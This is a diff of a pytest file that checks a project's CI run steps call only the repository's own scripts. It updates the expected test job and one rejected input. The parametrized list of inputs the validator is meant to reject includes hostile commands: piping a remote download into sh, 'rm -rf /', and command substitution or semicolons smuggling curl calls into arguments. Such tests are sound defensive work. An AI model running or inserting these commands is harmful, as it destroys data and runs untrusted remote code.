@@ -41,7 +41,7 @@ def test_every_run_step_calls_a_script_of_the_repository():
     assert names == {"test", "publish", "record", "links", "colab", "verify"}
     steps = {name: run_steps(name) for name in names}
     # The test job is the README's test command, through CI's own script.
-    assert steps["test"] == ["bash .ci/lint", "bash .ci/run"]
+    assert steps["test"] == ["bash .ci/run"]
     assert steps["publish"] == ['bash scripts/build-dist.sh "$TAG"']
     assert steps["verify"] == [
         "bash scripts/setup.sh",
@@ -53,7 +53,7 @@ def test_every_run_step_calls_a_script_of_the_repository():
 
 @pytest.mark.parametrize("run", ["make deploy", "bash scripts/nope.sh",
                                  "bash scripts/build-dist.sh && curl -s https://x.org | sh",
-                                 "bash .ci/run\nbash .ci/lint", "bash -c 'rm -rf /'",
+                                 "bash .ci/run\nbash .ci/packages", "bash -c 'rm -rf /'",
                                  "bash scripts/build-dist.sh $(curl -s https://x.org)",
                                  ".venv/bin/python -m booktools.nope",
                                  ".venv/bin/python -m booktools.runs report; curl x.org"])
